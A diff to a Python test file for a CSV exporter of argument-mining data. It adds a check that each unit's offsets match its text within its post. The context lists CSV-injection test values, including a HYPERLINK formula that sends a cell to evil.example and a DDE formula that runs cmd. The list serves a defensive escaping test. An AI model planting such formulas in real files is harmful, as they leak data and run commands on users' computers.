@@ -126,6 +126,18 @@ def test_export_csv_has_units_and_relations(kialo_settings: Settings) -> None:
     assert all(r["source"] in units and r["target"] in units for r in rows if r["record"] == "relation")
 
 
+def test_export_csv_gives_each_unit_its_offsets_into_its_post(kialo_settings: Settings) -> None:
+    """A researcher aligns units with other annotation (brat spans) by their offsets, as in the JSON export."""
+    data = api.graph_data(settings=kialo_settings)
+    posts = {p.id: p.text for p in data.posts}
+    rows = [r for r in csv.DictReader(io.StringIO(_text(kialo_settings, "csv"))) if r["record"] == "unit"]
+    assert len(rows) == len(data.units) == 6
+    for row in rows:
+        assert posts[row["post"]][int(row["start"]):int(row["end"])] == row["text"]
+    assert all(r["start"] == r["end"] == "" for r in csv.DictReader(io.StringIO(_text(kialo_settings, "csv")))
+               if r["record"] == "relation")
+
+
 #: Cells a spreadsheet would run as formulas (OWASP "CSV injection"): each must come back as text, ``'`` first.
 FORMULA_CELLS = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
                  "\t=1+1", "\r=1+1"]
